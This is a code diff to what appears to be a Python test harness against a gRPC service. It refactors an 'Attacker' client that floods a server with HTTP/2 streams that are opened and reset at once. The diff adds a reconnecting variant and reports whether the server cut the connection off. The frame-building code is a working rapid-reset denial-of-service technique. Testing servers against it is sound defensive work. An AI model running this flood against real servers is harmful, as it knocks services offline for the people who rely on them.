@@ -38,6 +38,18 @@ def framed(message: Message | bytes) -> bytes:
     return struct.pack(">BI", 0, len(data)) + data
 
 
+def headers_of(method: str) -> list[tuple[str, str]]:
+    """What a call of gRPC begins with."""
+    return [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", method),
+        (":authority", "attacker"),
+        ("te", "trailers"),
+        ("content-type", "application/grpc"),
+    ]
+
+
 @dataclass
 class Answer:
     """What the server said to one call so far."""
@@ -82,17 +94,8 @@ class Attacker:
     ) -> int:
         """Puts a call together; `flush` sends it. Returns its stream's number."""
         stream = self.h2.get_next_available_stream_id()
-        headers = [
-            (":method", "POST"),
-            (":scheme", "http"),
-            (":path", method),
-            (":authority", "attacker"),
-            ("te", "trailers"),
-            ("content-type", "application/grpc"),
-            *metadata,
-        ]
         self.answers[stream] = Answer()
-        self.h2.send_headers(stream, headers)
+        self.h2.send_headers(stream, [*headers_of(method), *metadata])
         for message in messages:
             self.h2.send_data(stream, framed(message))
         if ends:
@@ -193,36 +196,42 @@ def _refusal(headers: dict[str, str]) -> Refusal:
     return refusal(status_pb2.Status.FromString(data))
 
 
-def flood_with_resets(address: str, streams_a_second: int, seconds: int) -> None:
-    """Begins calls and takes each back at once, on one connection, as fast as it is told to."""
+def flood_with_resets(address: str, streams_a_second: int, seconds: float) -> bool:
+    """Begins calls and takes each back at once, on one connection, as fast as it is told to.
+
+    Returns whether the other side let it; false if the connection was closed.
+    """
     encoder, batch = hpack.Encoder(), 160
-    with connect(address) as connection:
+    with connect(address) as connection, contextlib.suppress(ConnectionError):
         connection.sendall(PREFACE)
         assert connection.recv(2**16)
         connection.sendall(SETTINGS_TAKEN)  # until then gRPC lets a few streams begin, and no more
         begun = time.monotonic()
-        for number in range(streams_a_second * seconds // batch):
+        for number in range(int(streams_a_second * seconds) // batch):
             connection.sendall(_resets(1 + 2 * batch * number, batch, encoder))
             due = begun + (number + 1) * batch / streams_a_second
             while (left := due - time.monotonic()) > 0:
                 connection.settimeout(left)
                 with contextlib.suppress(TimeoutError):
-                    assert connection.recv(2**16), "the server closed the connection"
+                    if not connection.recv(2**16):
+                        return False
             connection.settimeout(SECONDS_MAX)
+        return True
+    return False
+
+
+def flood_with_resets_again(address: str, streams_a_second: int, seconds: float) -> int:
+    """The same by somebody who connects again when cut off. Returns how often that was."""
+    cut_off, end = 0, time.monotonic() + seconds
+    while (left := end - time.monotonic()) > 0:
+        cut_off += not flood_with_resets(address, streams_a_second, left)
+    return cut_off
 
 
 def _resets(first: int, count: int, encoder: hpack.Encoder) -> bytes:
-    headers = [
-        (":method", "POST"),
-        (":scheme", "http"),
-        (":path", "/conveyor.v1.SessionService/Step"),
-        (":authority", "attacker"),
-        ("te", "trailers"),
-        ("content-type", "application/grpc"),
-    ]
     frames = bytearray()
     for stream in range(first, first + 2 * count, 2):
-        block = encoder.encode(headers)
+        block = encoder.encode(headers_of("/conveyor.v1.SessionService/Step"))
         frames += struct.pack(">I", len(block))[1:] + b"\x01\x04" + struct.pack(">I", stream)
         frames += block + b"\0\0\x04\x03\0" + struct.pack(">II", stream, 8)
     return bytes(frames)
